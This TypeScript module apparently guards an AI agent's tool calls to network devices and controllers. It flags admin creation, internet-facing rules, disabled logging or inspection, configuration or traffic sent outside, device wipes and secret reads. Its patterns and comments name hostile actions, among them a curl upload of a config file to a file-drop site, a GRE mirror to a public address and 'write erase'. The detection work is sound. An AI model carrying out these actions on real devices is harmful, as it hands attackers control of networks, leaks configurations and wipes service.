import type { ToolCall } from '../toolcall.js';
import { nameWords, requestParams } from '../tool-shape.js';
import { destinationOf, EXFIL_KINDS } from './hosts.js';
import { outsideCollector, siteOf } from './telemetry-config.js';
import { memoizeOn } from './memo.js';

/**
 * Network devices and their controllers changed through an agent's tools: firewalls (PAN-OS, FortiOS, OPNsense,
 * pfSense), switches and routers (IOS-XE, NX-OS, EOS, Junos) through their CLIs, RESTCONF and NETCONF, cloud
 * controllers (Meraki, UniFi, CloudVision), NetBox and tailnets. A change there reaches every machine behind the
 * device: an admin made on it, a rule that lets the internet in, its logs or traffic sent elsewhere, its protections
 * or its whole configuration wiped. Each reader answers what the call does of that, or nothing.
 */

/** MCP servers for network devices, as their tools' names start (`mcp__meraki__…`, `mcp__junos__…`). */
const DEVICE_SERVERS = new Set(['netbox', 'meraki', 'panos', 'panorama', 'paloalto', 'fortigate', 'fortios', 'arista', 'eos', 'cloudvision', 'cvp', 'iosxe', 'nxos', 'netconf', 'restconf', 'junos', 'juniper', 'unifi', 'opnsense', 'pfsense', 'tailscale', 'mikrotik', 'routeros']);
/** Device and controller APIs by address: FortiOS, RESTCONF, Arista eAPI, NX-API, PAN-OS, UniFi, Meraki, pfSense, Tailscale. */
const DEVICE_API = /\/api\/v2\/(?:cmdb|monitor)\/|\/restconf\/|\/command-api\b|\/ins$|\/api\/\?type=|\/proxy\/network\/|\/\/api\.meraki\.com\/|\/api\/v2\/diagnostics\/|\/\/api\.tailscale\.com\/|\/logpush\/jobs\b/;
/** A tool's words that read (`get_…`, `show`, `validate_policy_file`) rather than change. */
const READ_WORDS = new Set(['get', 'list', 'show', 'search', 'describe', 'validate', 'preview', 'diff', 'download', 'status', 'statuses']);

/** What a device call holds, read once: its words, its path or xpath, its text lines, and its objects. */
interface DeviceCall { words: string[]; method: string; path: string; lines: string[]; objects: Record<string, unknown>[]; json: string; sites: string[] }

/** A call to a network device or controller that changes something, read into lines and objects; else undefined. */
const deviceCall = memoizeOn(readDeviceCall);

function readDeviceCall(call: ToolCall): DeviceCall | undefined {
  let words: string[];
  let params: unknown;
  let path = '';
  let method = '';
  let sites: string[] = [];
  if (call.kind === 'unknown') {
    words = nameWords(call.toolName);
    if (!words.some((w) => DEVICE_SERVERS.has(w)) || (words.some((w) => READ_WORDS.has(w)) && !words.some((w) => w === 'run' || w === 'execute' || w === 'op'))) return undefined;
    params = call.params;
    const p = params && typeof params === 'object' ? (params as Record<string, unknown>) : {};
    path = [p.xpath, p.path].filter((x): x is string => typeof x === 'string').join(' ');
    method = str(p.method).toUpperCase();
    sites = ['host', 'device', 'router_name', 'hostname'].map((k) => siteOf(str(p[k])));
  } else if (call.kind === 'network') {
    if (!DEVICE_API.test(call.url) || call.method === 'GET' || call.method === 'HEAD') return undefined;
    words = nameWords(call.url.replace(/^\w+:\/\/[^/]*/, ''));
    path = call.url;
    method = call.method;
    sites = [siteOf(destinationOf(call.url)?.host ?? '')];
    params = requestParams(call.body);
  } else return undefined;
  const lines: string[] = [];
  const objects: Record<string, unknown>[] = [];
  walk(params, lines, objects, 0);
  const json = JSON.stringify(params ?? null)?.slice(0, 32768) ?? '';
  return { words, method, path: path.slice(0, 2048), lines, objects, json, sites: sites.filter(Boolean) };
}

/** Every string's lines and every object of a call's arguments, eight levels and 2,000 lines deep at most. */
function walk(v: unknown, lines: string[], objects: Record<string, unknown>[], depth: number): void {
  if (depth > 8 || lines.length > 2000 || objects.length > 512) return;
  if (typeof v === 'string') {
    const text = v.slice(0, 32768);
    for (const l of text.split('\n', 2000)) { const t = l.trim(); if (t) lines.push(t); }
    // the CLI lines an XML tree carries for later (an EEM applet's `<command>username … privilege 15</command>`)
    if (text.includes('<command>')) {
      for (const part of text.split('<command>', 256).slice(1)) { const end = part.indexOf('</command>'); lines.push((end < 0 ? part : part.slice(0, end)).trim()); }
    }
    return;
  }
  if (Array.isArray(v)) { for (const x of v.slice(0, 256)) walk(x, lines, objects, depth + 1); return; }
  if (v && typeof v === 'object') {
    objects.push(v as Record<string, unknown>);
    for (const x of Object.values(v).slice(0, 128)) walk(x, lines, objects, depth + 1);
  }
}

const str = (v: unknown) => (typeof v === 'string' ? v : typeof v === 'number' || typeof v === 'boolean' ? String(v) : '');
/** A value's names: a string, the strings of a list, or the `name`s of a list of objects (FortiOS's `[{name: "all"}]`). */
const names = (v: unknown): string[] => (Array.isArray(v) ? v.slice(0, 64).map((x) => (x && typeof x === 'object' ? str((x as Record<string, unknown>).name) : str(x))) : [str(v)]).filter(Boolean);
/** Every address there is: `any`, `all`, `*`, `0.0.0.0/0`. */
const ANY = /^(?:any|all|\*|0\.0\.0\.0(?:\/0| 0\.0\.0\.0)?|::\/0)$/i;
const isAny = (v: unknown) => { const n = names(v); return n.length > 0 && n.every((x) => ANY.test(x.trim())); };
const valueOf = (o: Record<string, unknown>, keys: RegExp) => Object.entries(o).filter(([k]) => keys.test(k)).map(([, v]) => v);

/**
 * Where a device's configuration or traffic should never go: a public address or an exfiltration host; for its logs,
 * flows and events (`named`), also a named outside host, as for any log shipper, unless it is under the device's own domain.
 */
function outsideHost(d: DeviceCall, text: string, named = false): string | undefined {
  const to = destinationOf(text.slice(0, 512));
  if (!to) return undefined;
  return (named ? outsideCollector(to.host, d.sites) : EXFIL_KINDS.has(to.kind)) ? to.host : undefined;
}

/** Ports that give a shell, a desktop, a database or a board's management when opened to the internet. */
const SENSITIVE_PORTS = new Set(['22', '23', '135', '139', '445', '623', '1433', '1521', '2375', '2376', '3306', '3389', '5432', '5900', '5985', '5986', '6379', '9200', '11211', '27017']);

/** An admin account, a full-rights key or a superuser made on a device or its controller. */
export function deviceAdminMade(call: ToolCall): string | undefined {
  const d = deviceCall(call);
  if (!d) return undefined;
  // IOS and EOS `username x privilege 15` / `role network-admin`, Junos `class super-user`, also inside an EEM applet
  const line = d.lines.find((l) => /^username\s+\S+\s+(?:\S+\s+){0,6}(?:privilege\s+15|role\s+network-admin)\b/.test(l) || /^set system login user \S+ class super-user\b/.test(l));
  if (line) return line.slice(0, 160);
  for (const o of d.objects) {
    if (/\/username\b/.test(d.path) && str(o.privilege) === '15') return `user ${str(o.name)} at privilege 15`;
    if (str(o.accprofile) === 'super_admin') return `${str(o.name) || 'an admin'} with the super_admin profile`;
    if (o.is_superuser === true) return `${str(o.username) || 'a user'} made superuser`;
    if (str(o.orgAccess) === 'full') return `${str(o.email) || 'an admin'} given full organization access`;
    if (str(o.cmd) === 'invite-admin') return `${str(o.email) || 'an admin'} invited as admin`;
    // a NetBox token that writes and never expires, or a permission over every object type
    if (o.write_enabled === true && (o.expires === null || o.expires === undefined) && /users\.tokens|\/users\/tokens/.test(`${d.json} ${d.path}`)) return 'a NetBox token that writes and never expires';
    if (Array.isArray(o.object_types) && o.object_types.includes('*') && Array.isArray(o.actions) && o.actions.includes('change')) return 'a NetBox permission to change every object';
    // a reusable, pre-approved tailnet key that lasts weeks
    const create = o.create && typeof o.create === 'object' ? (o.create as Record<string, unknown>) : undefined;
    if (create && create.reusable === true && create.preauthorized === true && create.ephemeral !== true && Number(str(o.expirySeconds) || 7_776_000) > 604_800) return 'a reusable pre-approved tailnet key';
  }
  if (/<superuser>yes<\/superuser>/.test(d.json) && /mgt-config\/users/.test(d.path)) return 'a PAN-OS superuser';
  // an API key generated for an admin of the device or its organization
  if (d.words.includes('generate') && d.words.includes('key') && (d.words.includes('api') || d.words.includes('admin'))) return 'an API key generated for a device admin';
  return undefined;
}

/** A rule, forward or setting that lets anyone on the internet in, or anyone on the air onto the network. */
export function deviceOpened(call: ToolCall): string | undefined {
  const d = deviceCall(call);
  if (!d) return undefined;
  const forwarding = d.words.some((w) => w === 'forward' || w === 'forwarding' || w === 'vip' || w === 'portforward');
  for (const o of d.objects) {
    const allow = valueOf(o, /^(?:action|policy)$/i).some((v) => /^(?:allow|accept|pass|permit)$/i.test(str(v)));
    const src = valueOf(o, /^(?:src|srcCidr|source|source_net|srcaddr|allowedIps|source_address)$/i);
    const dst = valueOf(o, /^(?:dst|destCidr|destination|destination_net|dstaddr)$/i);
    const outside = valueOf(o, /^(?:from_?zones?|srcintf|interface|extintf|pfwd_interface)$/i).some((v) => names(v).some((n) => /^(?:untrust\w*|outside|internet|wan\d*|external)$/i.test(n)));
    if (allow && src.some(isAny) && (dst.some(isAny) || outside)) return `a rule allowing any source${outside ? ' from outside' : ' to any destination'}`;
    // a port forward or VIP from anywhere to a shell, desktop, database or management port
    const ports = valueOf(o, /^(?:localPort|local_port|fwd_port|mappedport|publicPort|dst_port|destination_port|extport)$/i).map(str);
    // (or to a server's management board, by its name: `descr: "idrac remote"`)
    const board = valueOf(o, /^(?:name|descr|description|comment)$/i).some((v) => /\b(?:idrac|ilo|ipmi|bmc|imm)\b/i.test(str(v)));
    if ((forwarding || 'extip' in o) && (src.length === 0 || src.some(isAny)) && (board || ports.some((p) => SENSITIVE_PORTS.has(p)))) return board ? "a server's management board forwarded from anywhere" : `port ${ports.find((p) => SENSITIVE_PORTS.has(p))} forwarded from anywhere`;
    // a staff SSID without a password; guest networks are open by design
    const auth = valueOf(o, /^(?:authMode|security|auth_mode)$/i).map(str);
    if (auth.includes('open') && (d.words.includes('ssid') || d.words.includes('wlan') || d.words.includes('wireless')) && !/guest|visitor|public|hotspot/i.test(str(o.name))) return `wireless network ${str(o.name) || ''} opened without a password`;
    // an SNMP community that writes, or one anyone guesses
    if (d.words.concat(nameWords(d.path)).includes('snmp') && valueOf(o, /^(?:permission|access)$/i).some((v) => /^rw$/i.test(str(v)))) return 'a read-write SNMP community';
    if (valueOf(o, /^community(?:String|_string)?$/i).some((v) => /^(?:public|private)$/i.test(str(v)))) return `the default SNMP community "${valueOf(o, /^community/i).map(str).join('')}"`;
  }
  if (/\/rulebase\/(?:nat|security)\//.test(d.path) && /<source><member>any<\/member><\/source>/.test(d.json) && /<from><member>(?:untrust|outside|internet|wan)/i.test(d.json) && (/\/nat\//.test(d.path) || /<action>allow<\/action>/.test(d.json))) return 'a PAN-OS rule from outside for any source';
  // Junos `from-zone untrust … match source-address any … then permit`; an ACL that guards management opened to all
  if (d.lines.some((l) => /^(?:set|insert) security policies from-zone (?:untrust|outside|internet)\S* to-zone \S+ policy \S+ match source-address any\b/.test(l)) && d.lines.some((l) => /\bthen permit\b/.test(l))) return 'a Junos policy from outside for any source';
  if (d.lines.some((l) => /^ip access-list (?:standard |extended )?\S*(?:mgmt|management|vty|ssh|snmp|protect)/i.test(l)) && d.lines.some((l) => /^(?:\d+\s+)?permit ip any any$/.test(l))) return 'a management access list opened to any address';
  if (d.lines.some((l) => /^(?:deactivate|delete) interfaces lo0\b.*\bfilter input\b/.test(l))) return "the routing engine's protection filter taken off";
  if (d.lines.some((l) => /^snmp-server community (?:public|private)\b|^snmp-server community \S+ RW\b/i.test(l))) return 'a default or read-write SNMP community';
  if (!d.words.includes('validate') && /"src"\s{0,8}:\s{0,8}\[\s{0,8}"\*"\s{0,8}\]\s{0,8},\s{0,8}"dst"\s{0,8}:\s{0,8}\[\s{0,8}"\*:\*"\s{0,8}\]/.test(d.lines.join('\n').slice(0, 32768))) return 'a tailnet policy letting every device reach every port';
  return undefined;
}

/** An inspection, prevention, second factor or log output of a device switched off or removed. */
export function deviceProtectionOff(call: ToolCall): string | undefined {
  const d = deviceCall(call);
  if (!d) return undefined;
  for (const o of d.objects) {
    if (str(o['utm-status']) === 'disable' || (str(o['ssl-ssh-profile']) === 'no-inspection' && str(o['ips-sensor']) === '')) return 'security profiles taken off a firewall policy';
    if (d.words.some((w) => w === 'ids' || w === 'ips') && (str(o.enabled) === '0' || o.enabled === false)) return 'intrusion detection switched off';
    if (d.path.includes('syslog') && str(o.status) === 'disable') return 'syslog output switched off';
    // a local login made beside the directory, with its second factor off
    if (/\/user\/local\b/.test(d.path) && str(o['two-factor']) === 'disable' && str(o.passwd) !== '') return 'a local login without a second factor';
  }
  // PAN-OS: a vulnerability or spyware profile that allows, a rule's profile group emptied, MFA off, log forwarding deleted
  if (/\/profiles\/(?:vulnerability|spyware|virus)\//.test(d.path) && /<action><allow\/><\/action>/.test(d.json)) return 'a threat prevention profile set to allow';
  if (/\/profile-setting$/.test(d.path) && /<profile-setting><group\/><\/profile-setting>/.test(d.json)) return "a rule's security profiles removed";
  if (/<mfa-enable>no<\/mfa-enable>/.test(d.json)) return 'multi-factor authentication switched off';
  if (d.words.includes('delete') && /\/log-settings\//.test(d.path)) return 'log forwarding deleted';
  if (d.words.includes('syslog') && d.objects.some((o) => Array.isArray(o.servers) && o.servers.length === 0)) return 'every syslog server removed';
  if (/\/logging\b/.test(d.path) && (d.method === 'DELETE' || d.words.includes('delete'))) return 'logging hosts deleted';
  // (and a management API moved to plain HTTP: every later call carries the admin's password in clear)
  const line = d.lines.find((l) => /^no logging (?:host|on|trap)\b|^logging buffered (?:\d+ )?emergencies$|^delete system syslog\b|^delete security log\b|^no protocol https$/.test(l));
  return line?.slice(0, 160);
}

/** Lines that name where a device's logs, flows or mirrored traffic go. */
const TELEMETRY_LINE = /^(?:logging (?:host|server)|sflow destination|ip flow-export destination|monitor session \S+ destination|set system syslog host|snmp-server host)\b/;
/** Lines that copy a device's configuration or support file to another host. */
const COPY_OUT_LINE = /^(?:scp export \S+ (?:from \S+ )?to \S+|execute backup (?:full-)?config (?:ftp|tftp|sftp|scp)\b.*|copy (?:running|startup)-config \S+|file copy \S+ \S+|copy \S+ (?:ftp|tftp|scp|sftp|https?):\S+)/;

/** A device's configuration, logs, flows or mirrored traffic sent to a public address or a drop host. */
export function deviceDataSentOut(call: ToolCall): string | undefined {
  const d = deviceCall(call);
  if (!d) return undefined;
  // (and a Junos port mirror's GRE tunnel: `set interfaces gr-0/0/0 unit 0 tunnel source … destination 185.81.157.88`)
  const mirrored = d.lines.some((l) => l.includes('port-mirror'));
  for (const l of d.lines) {
    // a device's shell asked to send a file to a paste site or file drop (`curl -F file=@/conf/config.xml https://transfer.sh/`)
    const drop = /\bhttps?:\/\//.test(l) && /^(?:curl|wget|fetch)\b/.test(l) ? l.split(/\s+/, 32).map((w) => destinationOf(w.replace(/^['"]|['"]$/g, ''))).find((x) => x && EXFIL_KINDS.has(x.kind)) : undefined;
    if (drop) return `${l.slice(0, 120)} (${drop.host})`;
    const telemetryLine = TELEMETRY_LINE.test(l) || (mirrored && /^set interfaces \S+ unit \d+ tunnel\b/.test(l));
    if (!telemetryLine && !COPY_OUT_LINE.test(l)) continue;
    const host = l.split(/\s+/, 32).slice(2).map((w) => outsideHost(d, w, telemetryLine)).find(Boolean);
    if (host) return `${l.slice(0, 120)} (${host})`;
  }
  // a log, flow or mirror target set through an API or a NETCONF tree: `servers: [{host: …}]`, `<erspan-source>…<address>`
  // (and a webhook that sends every event or change: NetBox's, Meraki's; a chat channel's is where notices go)
  const telemetry = [...d.words, ...nameWords(d.path)].some((w) => /^(?:syslog|syslogd\d?|logging|logpush|sflow|netflow|ipfix|monitor|mirror|mirroring|remoteserver|webhook|webhooks)$/.test(w)) || /erspan|<logging>|<flow>|extras\.webhooks/.test(d.json);
  if (!telemetry) return undefined;
  for (const o of d.objects) for (const [k, v] of Object.entries(o)) {
    if (!/^(?:host|server|remoteserver|address|destination|destination_conf|url|payload_url|ip)$/i.test(k) || destinationOf(str(v).slice(0, 512))?.kind === 'chat-webhook') continue;
    const host = outsideHost(d, str(v), true);
    if (host) return `${k}: ${str(v).slice(0, 120)} (${host})`;
  }
  const xml = /erspan|<syslog|<logging>/.test(d.json) || /log-settings\/syslog/.test(d.path) ? /<(?:address|server|ip)>([^<]{1,100})<\//.exec(d.json) : null;
  return xml && outsideHost(d, xml[1]!) ? `${xml[1]} (outside)` : undefined;
}

/** A device reset to factory settings, its configuration erased, or a controller's network or inventory given up. */
export function deviceWiped(call: ToolCall): string | undefined {
  const d = deviceCall(call);
  if (!d) return undefined;
  const line = d.lines.find((l) => /^(?:write erase\b|erase (?:startup-config|nvram:)|request system zeroize\b|execute factoryreset\b|execute formatlogdisk\b)/.test(l) || /^<request><system><private-data-reset>/.test(l));
  if (line) return line.slice(0, 120);
  if (d.objects.some((o) => /^(?:restore-default|factory-reset|reset-default)$/.test(str(o.cmd)))) return 'a device reset to its defaults';
  if (d.words.includes('meraki') && ((d.words.includes('delete') && d.words.includes('network')) || (d.words.includes('release') && d.words.includes('inventory')))) return d.words.join(' ');
  // an internal network routed into nothing: PAN-OS's discard next hop, IOS's Null0, Junos's discard
  if (/\/static-route\//.test(d.path) && /<nexthop><discard\/><\/nexthop>/.test(d.json)) return 'a static route that discards';
  const blackhole = d.lines.find((l) => /^ip route (?:vrf \S+ )?\d[\d.]+ \d[\d.]+ Null0\b|^set routing-options static route \S+ discard\b/.test(l));
  return blackhole?.slice(0, 120);
}

/** The name servers a device or the networks it serves are given (DHCP options, the device's own resolvers). */
export function deviceResolvers(call: ToolCall): string[] {
  const d = deviceCall(call);
  if (!d) return [];
  const dnsPath = /dns/i.test(d.path);
  const out: string[] = [];
  for (const o of d.objects) for (const [k, v] of Object.entries(o)) {
    if (/dns/i.test(k) ? /^(?:dns|dnsNameservers|dns_servers|dhcpd_dns_\d|dns[-_]?server(?:s|[-_]list)?|nameservers?)$/i.test(k) : dnsPath && /^(?:primary|secondary|tertiary)$/.test(k)) out.push(...names(v).flatMap((x) => x.split(/[\s,]+/, 16)));
  }
  for (const m of d.json.matchAll(/<(?:dns-server-list|dns-server|primary|secondary)>([\d.:a-f]{3,45})<\//g)) if (m[0].startsWith('<dns') || dnsPath) out.push(m[1]!);
  for (const l of d.lines) { const m = /^(?:ip name-server|dns-server|set system name-server)\s+(\S+)/.exec(l); if (m) out.push(m[1]!); }
  return out.filter((x) => /^\d{1,3}(?:\.\d{1,3}){3}$|:/.test(x)).slice(0, 32);
}

/** Show commands that print a device's whole configuration, its admins, or its lines that hold secrets. */
const SHOWS_SECRETS = /^show (?:full-configuration\b|configuration\b.*\b(?:secret|password|pre-shared-key|encrypted-password)\b|running-config(?:\s+(?:all|full))?\s*$)|^<show><config><running>/;
/** Device API addresses that hand over a whole configuration, its backup, or stored tokens and secrets. */
const SECRETS_API = /\/api\/\?type=export&category=configuration|\/monitor\/system\/config\/backup|\/restconf\/data\/Cisco-IOS-XE-native:native\/?$|\/dl\/autobackup\/|\/api\/users\/tokens\/?(?:\?|$)|\/api\/plugins\/secrets\//;

/** A read of a device's whole configuration (hashes, keys, communities), of its admin accounts, or of stored tokens and secrets. */
export function deviceSecretsRead(call: ToolCall): string | undefined {
  if (call.kind === 'network') return DEVICE_API.test(call.url) || /\/api\/(?:users|plugins)\//.test(call.url) ? SECRETS_API.exec(call.url)?.[0] : undefined;
  if (call.kind !== 'unknown') return undefined;
  const words = nameWords(call.toolName);
  if (!words.some((w) => DEVICE_SERVERS.has(w))) return undefined;
  const p = call.params && typeof call.params === 'object' ? (call.params as Record<string, unknown>) : {};
  const type = str(p.object_type);
  if (/^(?:users\.tokens?|secrets\.\w+|netbox_secrets\.\w+)$/.test(type) && !words.some((w) => w === 'create' || w === 'update' || w === 'delete')) return `NetBox ${type}`;
  if (words.includes('backup') && words.includes('download')) return call.toolName;
  const lines: string[] = [];
  walk(p, lines, [], 0);
  return lines.find((l) => SHOWS_SECRETS.test(l))?.slice(0, 120);
}
